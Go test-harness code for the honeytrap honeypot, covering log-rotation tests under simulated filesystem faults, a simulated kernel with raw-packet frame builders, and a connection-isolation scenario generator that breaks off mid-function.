		ej, _ := json.Marshal(c07Emit{Serial: serial, Pad: r.Range(0, 200)})
		a.Ops = append(a.Ops, Op{K: "emit", Exp: ej}, Op{K: "sleep", Ms: int64(r.Range(1001, 1800))})
		kd := r.Pick([]string{"fsremove", "fsrename"})
		a.Ops = append(a.Ops, Op{K: kd})
		for k := r.Range(150, 700); k > 0; k-- {
			serial++
			ej, _ := json.Marshal(c07Emit{Serial: serial, Pad: r.Range(900, 4200)})
			a.Ops = append(a.Ops, Op{K: "emit", Exp: ej})
		}
		sc.Actors = append(sc.Actors, a)
		sc.Faults = []string{kd}
		class = "external-" + kd + "+burst-at-once"
	} else if faulty && !badStart {
		f := Actor{Kind: "fs", Name: "fs"}
		kinds := []string{"fsremove", "fsrename", "fsrmdir"}
		nf := r.Range(1, 3)
		var fl []string
		for k := 0; k < nf; k++ {
			kd := r.Pick(kinds)
			f.Ops = append(f.Ops, Op{K: "sleep", Ms: int64(r.Range(0, 3000))}, Op{K: kd})
			if kd == "fsrmdir" {
				f.Ops = append(f.Ops, Op{K: "sleep", Ms: int64(r.Range(0, 3000))}, Op{K: "fsmkdir"})
			}
			fl = append(fl, kd)
		}
		sc.Faults = fl
		sc.Actors = append(sc.Actors, f)
		class = "external-" + strings.Join(fl, "+")
		// faults stop; then more events which must all be logged
		a := Actor{Kind: "sender", Name: "late"}
		a.Ops = append(a.Ops, Op{K: "sleep", Ms: 20000})
		for k := r.Range(1, 5); k > 0; k-- {
			serial++
			ej, _ := json.Marshal(c07Emit{Serial: 100000 + serial, Pad: r.Range(0, 900)})
			a.Ops = append(a.Ops, Op{K: "emit", Exp: ej})
		}
		sc.Actors = append(sc.Actors, a)
	}
	if !badStart && NewRng(seed, "c07/symlink").Chance(0.2) {
		// the configured path is a symbolic link to a file elsewhere (a log directory on another volume); an external
		// removal then takes the file behind the link away, the link stays
		sc.Params["symlink"] = true
		class += " symlinked-path"
	}
	sc.Class = fmt.Sprintf("max=%d %s", maxsize, class)
	sc.Schedule = r.Schedule(80)
	sc.DrainMs = 5000
	return sc
}

type c07State struct {
	dir           string
	logdir        string
	sent          map[string]int64 // serial key -> simulated ms of the Send call
	sentStep      map[string]int   // serial key -> scheduler step of the Send call
	lastFaultStep int              // step of the last external filesystem action
	returned      int
	started       int
	rotated       map[string]string // rotated file name -> content hash when first seen
	lastFault     int64
	bad           map[string]bool // events the encoder refuses
	invMsg        string
	names         []string
	files         [][]byte
	readErr       string
}

func (st *c07State) checkRotated() string {
	ents, err := os.ReadDir(st.logdir)
	if err != nil {
		return ""
	}
	seen := map[string]bool{}
	for _, e := range ents {
		n := e.Name()
		if !strings.HasPrefix(n, "events.log.") {
			continue
		}
		seen[n] = true
		data, err := os.ReadFile(filepath.Join(st.logdir, n))
		if err != nil {
			continue
		}
		h := fmt.Sprintf("%x", sha256.Sum256(data))
		if old, ok := st.rotated[n]; ok && old != h {
			return fmt.Sprintf("rotated file %s changed after it was first observed", n)
		}
		st.rotated[n] = h
	}
	for n := range st.rotated {
		if !seen[n] {
			return fmt.Sprintf("rotated file %s disappeared", n)
		}
	}
	return ""
}

func runC07(t *testing.T, sc *Scenario) Result {
	res := okResult()
	stubHub.reset()
	maxsize := sc.ParamInt("maxsize", 1024)
	st := &c07State{sent: map[string]int64{}, sentStep: map[string]int{}, rotated: map[string]string{}, bad: map[string]bool{}}
	fsFaulted := false
	obs := RunScenario(t, sc, func(w *World) {
		w.PreBoot = func(dir string) {
			st.dir = dir
			st.logdir = filepath.Join(dir, "log")
			os.MkdirAll(st.logdir, 0755)
			os.WriteFile(filepath.Join(dir, "notadir"), []byte("x"), 0644)
			if sc.ParamBool("symlink") {
				os.MkdirAll(filepath.Join(dir, "vol"), 0755)
				os.Symlink(filepath.Join(dir, "vol", "data.log"), filepath.Join(st.logdir, "events.log"))
			}
			// lines of an earlier run (written the way the channel writes them: one JSON object per line)
			if pr, ok := sc.Params["prior"].([]interface{}); ok && len(pr) > 0 {
				var buf bytes.Buffer
				for i, v := range pr {
					l := int(v.(float64))
					key := fmt.Sprintf("prior:%d", i)
					line := fmt.Sprintf(`{"category":"c07","date":"2000-01-01T00:00:00Z","pad":"","serial":%q,"token":"earlier-run-token-0"}`, key)
					if pad := l - len(line) - 1; pad > 0 {
						line = strings.Replace(line, `"pad":""`, `"pad":"`+strings.Repeat("p", pad)+`"`, 1)
					}
					buf.WriteString(line + "\n")
					st.sent[key] = -1
					st.returned++
				}
				if nrot := sc.ParamInt("prior_rotated", 0); nrot > 0 {
					// fill the log file up to the limit and leave rotated files of this second behind
					if pad := maxsize - buf.Len(); pad > 0 {
						key := "prior:fill"
						line := fmt.Sprintf(`{"category":"c07","date":"2000-01-01T00:00:00Z","pad":"","serial":%q,"token":"earlier-run-token-0"}`, key)
						if p := pad - len(line) - 1; p >= 0 {
							// (only when a whole line fits exactly: the earlier run respected the limit, too)
							line = strings.Replace(line, `"pad":""`, `"pad":"`+strings.Repeat("p", p)+`"`, 1)
							buf.WriteString(line + "\n")
							st.sent[key] = -1
							st.returned++
						}
					}
					stamp := time.Now().Format("20060102150405")
					for k := 0; k < nrot; k++ {
						name := "events.log." + stamp
						if k > 0 {
							name += fmt.Sprintf(".%d", k)
						}
						key := fmt.Sprintf("priorrot:%d", k)
						line := fmt.Sprintf(`{"category":"c07","date":"2000-01-01T00:00:00Z","pad":"pp","serial":%q,"token":"earlier-run-token-0"}`, key)
						os.WriteFile(filepath.Join(st.logdir, name), []byte(line+"\n"), 0644)
						st.sent[key] = -1
						st.returned++
					}
					st.checkRotated() // they count as observed from the start
					res.probe("restart-with-rotated-files-of-this-second", 1)
				}
				os.WriteFile(filepath.Join(st.logdir, "events.log"), buf.Bytes(), 0644)
				res.probe("restart-on-existing-file", 1)
			}
		}
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		bus := stubHub.Bus
		if bus == nil {
			w.Obs.BootErr = "no bus handle"
			return
		}
		queues := map[int]chan event.Event{}
		active := filepath.Join(st.logdir, "events.log")
		w.Custom = func(w *World, ai int, op Op) {
			switch op.K {
			case "emit":
				var e c07Emit
				json.Unmarshal(op.Exp, &e)
				key := fmt.Sprintf("%s:%d", w.Sc.Actors[ai].Name, e.Serial)
				ev := event.New(event.Category("c07"), event.Custom("serial", key), event.Custom("pad", strings.Repeat("p", e.Pad)))
				if e.Bad {
					ev = event.New(event.Category("c07"), event.Custom("serial", key), event.Custom("pad", ""), event.Custom("ratio", math.NaN()))
					st.bad[key] = true
					res.fault("unencodable-event", 1)
				}
				st.sent[key] = w.nowMs()
				st.sentStep[key] = w.step
				q, ok := queues[ai]
				if !ok {
					q = make(chan event.Event, 2048)
					queues[ai] = q
					go func() {
						for e := range q {
							st.started++
							bus.Send(e)
							st.returned++
						}
					}()
				}
				q <- ev
			case "fsremove":
				victim := active
				if fi, err := os.Lstat(active); err == nil && fi.Mode()&os.ModeSymlink != 0 {
					if tg, err := os.Readlink(active); err == nil {
						victim = tg
						res.probe("file-behind-the-link-removed", 1)
					}
				}
				if os.Remove(victim) == nil {
					res.fault("active-file-removed", 1)
				}
				st.lastFault = w.nowMs()
				st.lastFaultStep = w.step
				fsFaulted = true
			case "fsrename":
				if os.Rename(active, filepath.Join(st.dir, fmt.Sprintf("moved-%d", w.nowMs()))) == nil {
					res.fault("active-file-renamed", 1)
				}
				st.lastFault = w.nowMs()
				st.lastFaultStep = w.step
				fsFaulted = true
			case "fsrmdir":
				// the whole log directory goes away (rotated files are moved aside, not judged afterwards)
				if os.Rename(st.logdir, filepath.Join(st.dir, fmt.Sprintf("gone-%d", w.nowMs()))) == nil {
					res.fault("log-directory-removed", 1)
				}
				st.rotated = map[string]string{}
				st.lastFault = w.nowMs()
				st.lastFaultStep = w.step
				fsFaulted = true
			case "fsmkdir":
				os.MkdirAll(st.logdir, 0755)
				st.lastFault = w.nowMs()
				st.lastFaultStep = w.step
			default:
				panic("c07: unknown op " + op.K)
			}
		}
		w.StepCheck = func(w *World) string {
			if msg := st.checkRotated(); msg != "" {
				st.invMsg = msg
				return msg
			}
			return ""
		}
		w.Play()
		if w.Abort == "" {
			w.Drain()
		}
		// read everything back while the temp dir still exists
		ents, _ := os.ReadDir(st.logdir)
		for _, e := range ents {
			if strings.HasPrefix(e.Name(), "events.log") {
				data, err := os.ReadFile(filepath.Join(st.logdir, e.Name()))
				if fi, lerr := os.Lstat(filepath.Join(st.logdir, e.Name())); err != nil && lerr == nil && fi.Mode()&os.ModeSymlink != 0 && os.IsNotExist(err) {
					// a link to a file that is gone holds no lines: whatever was sent and is in no other file is lost
					data, err = nil, nil
				}
				if err != nil {
					st.readErr = err.Error()
				}
				st.names = append(st.names, e.Name())
				st.files = append(st.files, data)
			}
		}
	})
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	if st.invMsg != "" {
		res.Violate("rotated-file-changed", "rotation", st.invMsg)
		return res
	}
	site := fmt.Sprintf("max=%d", maxsize)
	// liveness: every Send returned
	if st.returned != len(st.sent) {
		res.Violate("send-blocked-forever", "send", fmt.Sprintf("%d of %d Send calls never returned (%d entered) although the clock ran %d ms after the last one", len(st.sent)-st.returned, len(st.sent), st.started, sc.DrainMs))
		return res
	}
	if sc.ParamBool("bad_start") {
		res.fault("unwritable-destination", 1)
		return res // nothing can be logged; only liveness is required
	}
	if st.readErr != "" {
		res.Violate("infra", "readback", st.readErr)
		return res
	}
	names := st.names
	counts := map[string]int{}
	rotations := 0
	for fi, n := range names {
		if n != "events.log" {
			rotations++
		}
		data := st.files[fi]
		lines := bytes.Split(data, []byte("\n"))
		if len(lines) > 0 && len(lines[len(lines)-1]) == 0 {
			lines = lines[:len(lines)-1]
		}
		for li, l := range lines {
			var m map[string]interface{}
			if err := json.Unmarshal(l, &m); err != nil {
				res.Violate("line-corrupt", site, fmt.Sprintf("file %s line %d of %d does not parse as one JSON object (%v): %q", n, li+1, len(lines), err, short(string(l), 160)))
				return res
			}
			key, _ := m["serial"].(string)
			if key == "" {
				res.Violate("line-corrupt", site, fmt.Sprintf("file %s line %d has no serial: %q", n, li+1, short(string(l), 160)))
				return res
			}
			if pad, _ := m["pad"].(string); strings.Trim(pad, "p") != "" {
				res.Violate("line-corrupt", site, fmt.Sprintf("file %s line %d: padding field damaged", n, li+1))
				return res
			}
			counts[key]++
		}
		if int64(len(data)) > int64(maxsize) && len(lines) > 1 {
			res.Violate("file-exceeds-maxsize", site, fmt.Sprintf("file %s has %d bytes in %d lines, max size %d", n, len(data), len(lines), maxsize))
			return res
		}
	}
	res.probe("rotations", rotations)
	res.probe("lines-read-back", len(counts))
	if rotations > 0 {
		res.Nontriv = true
	}
	var keys []string
	for k := range st.sent {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		c := counts[k]
		if c > 1 {
			res.Violate("event-logged-twice", site, fmt.Sprintf("event %s appears %d times", k, c))
			return res
		}
		if st.bad[k] {
			if c > 0 {
				res.Violate("infra", "generator", "an event with a NaN value was logged: "+k)
				return res
			}
			continue // cannot be encoded: it is the only event that may be missing because of that
		}
		if c == 0 {
			if fsFaulted && st.sentStep[k] <= st.lastFaultStep {
				// sent before the file (or its directory) was taken away for the last time: it may have been flushed
				// into what was removed.  Everything sent in a later step goes through a write that notices the
				// missing path and reopens, and must be logged.
				continue
			}
			kind := "event-lost"
			if fsFaulted {
				kind = "event-lost-after-faults-stopped"
			}
			res.Violate(kind, site, fmt.Sprintf("event %s (sent at %d ms) is in none of the files %v (%d rotations, %d of %d events found)", k, st.sent[k], names, rotations, len(counts), len(st.sent)))
			return res
		}
	}
	for k := range counts {
		if _, ok := st.sent[k]; !ok {
			res.Violate("unknown-line", site, "line with serial "+k+" was never sent")
			return res
		}
	}
	return res
}
