package htsim

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sync"
	"syscall"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"
)

// SimSys is the simulated slice of the kernel the raw (canary) listener talks to: epoll, AF_PACKET
// sockets, /proc/net/route, /proc/net/arp and the interface table.  The real canary.New and the
// real Start() receive loop run over it inside the bubble (DESIGN §2.5).

type SentFrame struct {
	Step int
	AtMs int64
	Data []byte
}

type simSock struct {
	fd   int
	rx   [][]byte
	mask uint32
}

type SimSys struct {
	mu      sync.Mutex
	wake    chan struct{}
	nextFD  int
	epfd    int
	socks   map[int]*simSock
	Sent    []SentFrame
	eintr   int
	EINTRs  int // fired
	start   time.Time
	step    *int
	closed  bool
	RxCount int
}

func NewSimSys(step *int) *SimSys {
	return &SimSys{nextFD: 1000, socks: map[int]*simSock{}, start: time.Now(), step: step}
}

func (s *SimSys) wakeAll() {
	if s.wake != nil {
		close(s.wake)
		s.wake = nil
	}
}

func (s *SimSys) EpollCreate1(flag int) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.nextFD++
	s.epfd = s.nextFD
	return s.epfd, nil
}

func (s *SimSys) Socket(domain, typ, proto int) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.nextFD++
	s.socks[s.nextFD] = &simSock{fd: s.nextFD}
	return s.nextFD, nil
}

func (s *SimSys) EpollCtl(epfd int, op int, fd int, event *syscall.EpollEvent) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	sk, ok := s.socks[fd]
	if !ok || epfd != s.epfd {
		return syscall.EBADF
	}
	switch op {
	case syscall.EPOLL_CTL_ADD, syscall.EPOLL_CTL_MOD:
		sk.mask = event.Events
	case syscall.EPOLL_CTL_DEL:
		sk.mask = 0
	}
	s.wakeAll()
	return nil
}

func (s *SimSys) EpollWait(epfd int, events []syscall.EpollEvent, msec int) (int, error) {
	for {
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			return -1, syscall.EBADF
		}
		if s.eintr > 0 {
			s.eintr--
			s.EINTRs++
			s.mu.Unlock()
			return -1, syscall.EINTR
		}
		n := 0
		fds := make([]int, 0, len(s.socks))
		for fd := range s.socks {
			fds = append(fds, fd)
		}
		sortInts(fds)
		for _, fd := range fds {
			sk := s.socks[fd]
			var ev uint32
			if sk.mask&syscall.EPOLLIN != 0 && len(sk.rx) > 0 {
				ev |= syscall.EPOLLIN
			}
			if sk.mask&syscall.EPOLLOUT != 0 {
				ev |= syscall.EPOLLOUT
			}
			if ev != 0 && n < len(events) {
				events[n] = syscall.EpollEvent{Events: ev, Fd: int32(fd)}
				n++
			}
		}
		if n > 0 {
			s.mu.Unlock()
			return n, nil
		}
		if s.wake == nil {
			s.wake = make(chan struct{})
		}
		ch := s.wake
		s.mu.Unlock()
		<-ch
	}
}

func (s *SimSys) Recvfrom(fd int, p []byte, flags int) (int, syscall.Sockaddr, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	sk, ok := s.socks[fd]
	if !ok {
		return -1, nil, syscall.EBADF
	}
	if len(sk.rx) == 0 {
		return -1, nil, syscall.EAGAIN
	}
	f := sk.rx[0]
	sk.rx = sk.rx[1:]
	n := copy(p, f)
	return n, &syscall.SockaddrLinklayer{}, nil
}

func (s *SimSys) Sendto(fd int, p []byte, flags int, to syscall.Sockaddr) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.socks[fd]; !ok {
		return syscall.EBADF
	}
	st := 0
	if s.step != nil {
		st = *s.step
	}
	s.Sent = append(s.Sent, SentFrame{Step: st, AtMs: int64(time.Since(s.start) / time.Millisecond), Data: append([]byte(nil), p...)})
	return nil
}

func (s *SimSys) Close(fd int) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if fd == s.epfd {
		s.closed = true
		s.wakeAll()
	}
	return nil
}

func (s *SimSys) GetsockoptInt(fd, level, opt int) (int, error) { return 0, nil }

// Inject delivers one link-layer frame to every packet socket (scheduler action).
func (s *SimSys) Inject(frame []byte) {
	s.mu.Lock()
	for _, sk := range s.socks {
		sk.rx = append(sk.rx, append([]byte(nil), frame...))
	}
	s.RxCount++
	s.wakeAll()
	s.mu.Unlock()
}

// InjectEINTR makes the next n EpollWait calls fail with EINTR.
func (s *SimSys) InjectEINTR(n int) {
	s.mu.Lock()
	s.eintr += n
	s.wakeAll()
	s.mu.Unlock()
}

func (s *SimSys) Pending() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, sk := range s.socks {
		n += len(sk.rx)
	}
	return n
}

func (s *SimSys) SentFrames() []SentFrame {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]SentFrame(nil), s.Sent...)
}

func sortInts(a []int) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

// ---------------------------------------------------------------------------------------------
// the simulated link

var (
	sensorMAC  = net.HardwareAddr{0x02, 0x00, 0x00, 0x00, 0x00, 0x01}
	sensorRaw  = net.IPv4(127, 0, 0, 1).To4()
	gatewayIP  = net.IPv4(10, 0, 0, 1).To4()
	gatewayMAC = net.HardwareAddr{0x02, 0x00, 0x00, 0x00, 0x00, 0xfe}
)

func peerMAC(ip net.IP) net.HardwareAddr {
	ip4 := ip.To4()
	return net.HardwareAddr{0x02, 0xaa, ip4[0], ip4[1], ip4[2], ip4[3]}
}

// rawWorldConfig: which peers the ARP table knows, whether a default route via the gateway exists.
type rawNetConfig struct {
	ARPPeers     []string `json:"arp_peers"`     // peer IPs with an ARP entry
	GatewayRoute bool     `json:"gateway_route"` // default route via gatewayIP
	GatewayARP   bool     `json:"gateway_arp"`   // ARP entry for the gateway
}

const rawBaseConfig = `
[listener]
type="raw"
interfaces=["lo"]

[channel.cap]
type="capture"
name="cap"

[[filter]]
channel=["cap"]
`

// installSimSys points the canary seams at a fresh simulated kernel with the given tables.
func installSimSys(dir string, nc rawNetConfig, step *int) *SimSys {
	sys := NewSimSys(step)
	canary.VerifSys = sys
	arp := "IP address       HW type     Flags       HW address            Mask     Device\n"
	for _, p := range nc.ARPPeers {
		arp += fmt.Sprintf("%-16s 0x1         0x2         %s     *        lo\n", p, peerMAC(net.ParseIP(p)))
	}
	if nc.GatewayARP {
		arp += fmt.Sprintf("%-16s 0x1         0x2         %s     *        lo\n", gatewayIP, gatewayMAC)
	}
	route := "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n"
	if nc.GatewayRoute {
		g := gatewayIP
		route += fmt.Sprintf("lo\t00000000\t%02X%02X%02X%02X\t0003\t0\t0\t0\t00000000\t0\t0\t0\n", g[3], g[2], g[1], g[0])
	}
	ap := filepath.Join(dir, "proc_net_arp")
	rp := filepath.Join(dir, "proc_net_route")
	os.WriteFile(ap, []byte(arp), 0644)
	os.WriteFile(rp, []byte(route), 0644)
	canary.VerifARPPath = ap
	canary.VerifRoutePath = rp
	canary.VerifInterfaceByName = func(name string) (*net.Interface, error) {
		intf, err := net.InterfaceByName("lo")
		if err != nil {
			return nil, err
		}
		c := *intf
		c.Name = name
		c.HardwareAddr = append(net.HardwareAddr(nil), sensorMAC...)
		return &c, nil
	}
	return sys
}

// ---------------------------------------------------------------------------------------------
// frame construction and an independent decoder/verifier (harness side; shares nothing with the
// repository's header code)

func csum16(b []byte, init uint32) uint16 {
	sum := init
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func ethFrame(dst, src net.HardwareAddr, typ uint16, payload []byte) []byte {
	f := make([]byte, 0, 14+len(payload))
	f = append(f, dst...)
	f = append(f, src...)
	f = append(f, byte(typ>>8), byte(typ))
	return append(f, payload...)
}

func ipv4Packet(src, dst net.IP, proto byte, id uint16, payload []byte) []byte {
	h := make([]byte, 20)
	h[0] = 0x45
	binary.BigEndian.PutUint16(h[2:], uint16(20+len(payload)))
	binary.BigEndian.PutUint16(h[4:], id)
	h[8] = 64
	h[9] = proto
	copy(h[12:16], src.To4())
	copy(h[16:20], dst.To4())
	binary.BigEndian.PutUint16(h[10:], csum16(h, 0))
	return append(h, payload...)
}

const (
	tcpFIN = 1
	tcpSYN = 2
	tcpRST = 4
	tcpPSH = 8
	tcpACK = 16
)

func pseudoSum(src, dst net.IP, proto byte, l int) uint32 {
	s, d := src.To4(), dst.To4()
	return uint32(s[0])<<8 + uint32(s[1]) + uint32(s[2])<<8 + uint32(s[3]) +
		uint32(d[0])<<8 + uint32(d[1]) + uint32(d[2])<<8 + uint32(d[3]) + uint32(proto) + uint32(l)
}

func tcpSegment(src, dst net.IP, sport, dport uint16, seq, ack uint32, flags byte, window uint16, options, payload []byte) []byte {
	for len(options)%4 != 0 {
		options = append(options, 0)
	}
	hl := 20 + len(options)
	b := make([]byte, hl, hl+len(payload))
	binary.BigEndian.PutUint16(b[0:], sport)
	binary.BigEndian.PutUint16(b[2:], dport)
	binary.BigEndian.PutUint32(b[4:], seq)
	binary.BigEndian.PutUint32(b[8:], ack)
	b[12] = byte(hl/4) << 4
	b[13] = flags
	binary.BigEndian.PutUint16(b[14:], window)
	copy(b[20:], options)
	b = append(b, payload...)
	binary.BigEndian.PutUint16(b[16:], csum16(b, pseudoSum(src, dst, 6, len(b))))
	return b
}

func udpDatagram(src, dst net.IP, sport, dport uint16, payload []byte) []byte {
	b := make([]byte, 8, 8+len(payload))
	binary.BigEndian.PutUint16(b[0:], sport)
	binary.BigEndian.PutUint16(b[2:], dport)
	binary.BigEndian.PutUint16(b[4:], uint16(8+len(payload)))
	b = append(b, payload...)
	binary.BigEndian.PutUint16(b[6:], csum16(b, pseudoSum(src, dst, 17, len(b))))
	return b
}

func icmpEcho(id, seq uint16, payload []byte) []byte {
	b := make([]byte, 8, 8+len(payload))
	b[0] = 8
	binary.BigEndian.PutUint16(b[4:], id)
	binary.BigEndian.PutUint16(b[6:], seq)
	b = append(b, payload...)
	binary.BigEndian.PutUint16(b[2:], csum16(b, 0))
	return b
}

// decodedTCP is what the independent decoder makes of an emitted frame.
type decodedTCP struct {
	DstMAC, SrcMAC      net.HardwareAddr
	SrcIP, DstIP        net.IP
	SPort, DPort        uint16
	Seq, Ack            uint32
	Flags               byte
	Payload             []byte
	IPCsumOK, TCPCsumOK bool
	Err                 string
}

func decodeTCPFrame(f []byte) decodedTCP {
	var d decodedTCP
	if len(f) < 14+20+20 {
		d.Err = fmt.Sprintf("frame too short: %d bytes", len(f))
		return d
	}
	d.DstMAC = net.HardwareAddr(f[0:6])
	d.SrcMAC = net.HardwareAddr(f[6:12])
	if f[12] != 0x08 || f[13] != 0x00 {
		d.Err = fmt.Sprintf("ethertype %02x%02x", f[12], f[13])
		return d
	}
	ip := f[14:]
	ihl := int(ip[0]&0x0f) * 4
	if ip[0]>>4 != 4 || ihl < 20 || len(ip) < ihl {
		d.Err = "bad ip header"
		return d
	}
	tot := int(binary.BigEndian.Uint16(ip[2:]))
	if tot > len(ip) || tot < ihl+20 {
		d.Err = fmt.Sprintf("ip total length %d vs %d bytes on the wire", tot, len(ip))
		return d
	}
	d.IPCsumOK = csum16(ip[:ihl], 0) == 0
	if ip[9] != 6 {
		d.Err = fmt.Sprintf("ip protocol %d", ip[9])
		return d
	}
	d.SrcIP = net.IP(append([]byte(nil), ip[12:16]...))
	d.DstIP = net.IP(append([]byte(nil), ip[16:20]...))
	t := ip[ihl:tot]
	d.SPort = binary.BigEndian.Uint16(t[0:])
	d.DPort = binary.BigEndian.Uint16(t[2:])
	d.Seq = binary.BigEndian.Uint32(t[4:])
	d.Ack = binary.BigEndian.Uint32(t[8:])
	off := int(t[12]>>4) * 4
	d.Flags = t[13]
	if off < 20 || off > len(t) {
		d.Err = fmt.Sprintf("tcp data offset %d", off)
		return d
	}
	d.Payload = t[off:]
	d.TCPCsumOK = csum16(t, pseudoSum(d.SrcIP, d.DstIP, 6, len(t))) == 0
	return d
}
