package htsim

import (
	"bytes"
	"fmt"
	"regexp"
	"sort"
	"strings"
	"testing"
)

// C03 — connections are isolated; events name the connection that caused them.
//
// 2-3 scripted sessions with distinct client addresses and session-unique tags on one service
// instance, interleaved at request/response granularity (one command per step; all interleavings of
// small session sets are enumerated through the choice tape in thorough), or N earlier complete
// sessions followed by a probe session.  Oracle: (a) solo-run equivalence — every session's client
// transcript and the events carrying its address equal those of the same script run alone on a fresh
// server; (b) tag ownership — nothing a client receives and no event attributed to it contains
// another session's tag, and every event containing a session's tag carries that session's address.

func init() {
	engines["C03"] = &Engine{Gen: genC03, Run: runC03}
}

var c03Protos = []string{"ldap", "ftp", "smtp", "telnet", "redis", "memcached", "http", "tftp"}

func c03Names() []string {
	act := activeProtos()
	if len(act) == len(protoNames) {
		return c03Protos
	}
	var out []string
	for _, n := range c03Protos {
		for _, a := range act {
			if a == n {
				out = append(out, n)
			}
		}
	}
	if len(out) == 0 {
		return c03Protos
	}
	return out
}

// genC03 draws scenarios until no session's own traffic contains another session's tag by accident (random words
// of a long payload can spell a short tag: the tag-ownership oracle would then blame the service for it).
func genC03(seed uint64, idx int, tier string) *Scenario {
	for attempt := 0; ; attempt++ {
		sc := genC03Try(NewRng(seed, fmt.Sprintf("c03/%d", attempt)), idx, tier)
		clash := false
		for i, a := range sc.Actors {
			var sent []byte
			for _, o := range a.Ops {
				if o.K == "send" {
					sent = append(sent, o.Bytes()...)
				}
			}
			low := bytes.ToLower(sent)
			for j, b := range sc.Actors {
				if i != j && bytes.Contains(low, []byte(b.Name)) {
					clash = true
				}
			}
		}
		if !clash || attempt > 20 {
			return sc
		}
	}
}

func genC03Try(r *Rng, idx int, tier string) *Scenario {
	names := c03Names()
	pn := names[idx%len(names)]
	p := protoTable[pn]
	sc := &Scenario{Engine: "c03", Params: map[string]interface{}{"proto": pn}}
	sc.Config = baseConfig + serviceConfig(p, "svc0")
	udpMaxReqV = 4
	history := r.Chance(0.3)
	ns := r.Range(2, 3)
	// mixed: a few earlier sessions run to completion first, then the others are interleaved
	prelude := 0
	if !history && r.Chance(0.25) {
		prelude = r.Range(1, 3)
		ns += prelude
	}
	preludeSteps := 0
	if history {
		ns = r.Range(2, 6)
		if r.Chance(0.2) {
			ns = r.Range(7, 20)
		}
	}
	// ldap, rootDSE class: a configured rootDSE with several values per attribute; sessions - plain ones and ones that
	// upgrade with StartTLS first - ask for the rootDSE (the reply is built from the lists all sessions share)
	dse := pn == "ldap" && r.Chance(0.4)
	if dse {
		ext := []string{"1.3.6.1.4.1.1466.20037", "1.3.6.1.4.1.4203.1.11.3", "1.3.6.1.4.1.4203.1.11.1", "1.3.6.1.1.8"}
		for i := len(ext) - 1; i > 0; i-- {
			j := r.Intn(i + 1)
			ext[i], ext[j] = ext[j], ext[i]
		}
		ext = ext[:r.Range(2, 4)]
		var q []string
		for _, e := range ext {
			q = append(q, tomlStr(e))
		}
		cfg := "supported-extension=[" + strings.Join(q, ",") + "]\nnaming-contexts=[\"dc=example,dc=com\",\"dc=ad,dc=example,dc=com\"]\nvendor-name=[\"HT Directory\",\"second\"]\nobjectclass=[\"dcObject\",\"organization\"]\n"
		sc.Config = strings.Replace(sc.Config, "\n[[port]]", "\n"+cfg+"\n[[port]]", 1)
		sc.Params["dse"] = true
	}
	var tags []string
	for i := 0; i < ns; i++ {
		tag := fmt.Sprintf("q%c%s", 'a'+i, r.word(4, 4))
		tags = append(tags, tag)
		n := r.Range(1, 3)
		cmds := p.Gen(r, tag, n)
		if dse {
			search := func(id int) pcmd {
				op := bSeq(0x40|0x20|3, bOct(""), bInt(0x0a, 0), bInt(0x0a, 0), bInt(0x02, 0), bInt(0x02, 0), bBool(r.Chance(0.2)), bStr(0x80|7, "objectClass"), bSeq(0x30))
				return pcmd{Data: bSeq(0x30, bInt(0x02, int64(id)), op).enc(false), Note: "rootDSE"}
			}
			if r.Chance(0.5) {
				cmds = cmds[:r.Intn(len(cmds)+1)]
			}
			cmds = append([]pcmd{search(7000 + i)}, cmds...)
			if r.Chance(0.6) {
				cmds = append(cmds, search(7100+i))
			}
		}
		if pn == "ftp" && r.Chance(0.6) {
			// logged-in sessions with their own working directory
			cmds = nil
			for _, l := range []string{"USER anonymous", "PASS anonymous", "MKD d" + tag, "CWD d" + tag, "PWD"} {
				cmds = append(cmds, pcmd{Data: []byte(l + "\r\n"), Note: l})
			}
			for k := r.Range(0, 3); k > 0; k-- {
				l := r.Pick([]string{"PWD", "MKD s" + tag, "CWD s" + tag, "CDUP", "CWD /", "CWD /d" + tag, "SIZE x", "NOOP", "RMD s" + tag, "CWD ..", "PASV", "PASV"})
				cmds = append(cmds, pcmd{Data: []byte(l + "\r\n"), Note: l})
			}
			cmds = append(cmds, pcmd{Data: []byte("PWD\r\n"), Note: "PWD"})
		}
		dstIP := sensorIP
		if r.Chance(0.3) {
			dstIP = "192.0.2.2" // the sensor is reached on more than one of its addresses
		}
		a := Actor{Kind: "tcp", Name: tag, Src: clientAddr(i), Dst: fmt.Sprintf("%s:%d", dstIP, p.Port), Svc: pn}
		if p.UDP {
			a.Kind = "udp"
		}
		if (pn == "ftp" || pn == "smtp") && r.Chance(0.4) {
			cmds = append(cmds, pcmd{Data: []byte("QUIT\r\n"), Note: "QUIT"})
		}
		if dse && r.Chance(0.45) {
			req := bSeq(0x30, bInt(0x02, int64(9000+i)), bSeq(0x77, bStr(0x80, "1.3.6.1.4.1.1466.20037"))).enc(false)
			a.Ops = append(a.Ops, SendOp(req, nil, "StartTLS"), Op{K: "starttls"})
		}
		if (pn == "ftp" || pn == "smtp") && r.Chance(0.2) {
			// this session upgrades to TLS in band first; the others (plain or TLS) run beside it
			if pn == "smtp" {
